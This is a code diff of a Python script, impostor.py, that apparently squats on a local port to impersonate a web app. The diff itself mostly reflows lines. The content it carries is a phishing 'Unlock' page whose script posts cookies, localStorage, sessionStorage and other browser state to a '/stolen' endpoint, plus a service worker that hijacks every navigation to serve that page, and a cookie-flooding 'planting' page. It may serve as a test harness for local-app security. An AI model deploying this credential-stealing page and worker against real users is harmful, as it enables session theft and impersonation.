@@ -1,4 +1,4 @@
-"""Somebody else on this computer: takes an address as soon as it is free, writes down every byte that comes, and answers.
+"""Somebody else on this computer: takes an address as soon as it is free, writes down all that comes, and answers.
 
     impostor.py HOST PORT state|page|worker
 
@@ -13,16 +13,18 @@ import sys
 import threading
 import time
 
-STATE = {"revision": 1, "accounts": 0, "inputs": 0, "unsaved": 0, "workers": 2, "sources": {}, "idle": {"seconds": 1800, "ends": "lock"},
-         "vault": {"file": "v.json", "exists": True, "locked": True}}
+STATE = {"revision": 1, "accounts": 0, "inputs": 0, "unsaved": 0, "workers": 2, "sources": {},
+         "idle": {"seconds": 1800, "ends": "lock"}, "vault": {"file": "v.json", "exists": True, "locked": True}}
 PAGE = """<!doctype html><title>Stolen</title><h1 id="thief">Unlock</h1><script>
-fetch("/stolen", {method: "POST", body: JSON.stringify({address: location.href, session: {...sessionStorage}, local: {...localStorage},
+fetch("/stolen", {method: "POST", body: JSON.stringify({
+  address: location.href, session: {...sessionStorage}, local: {...localStorage},
   cookies: document.cookie, name: window.name, state: history.state, referrer: document.referrer})});
 </script>"""
 WORKER = f"""addEventListener("install", () => skipWaiting());
 addEventListener("activate", (event) => event.waitUntil(clients.claim()));
 addEventListener("fetch", (event) => {{
-  if (event.request.mode === "navigate") event.respondWith(new Response({json.dumps(PAGE)}, {{headers: {{"Content-Type": "text/html"}}}}));
+  if (event.request.mode === "navigate")
+    event.respondWith(new Response({json.dumps(PAGE)}, {{headers: {{"Content-Type": "text/html"}}}}));
 }});"""
 PLANT = """<!doctype html><title>Planting</title><script>
 for (let at = 0; at < 8; at += 1) document.cookie = `c${at}=${"x".repeat(3900)}; max-age=9999`;
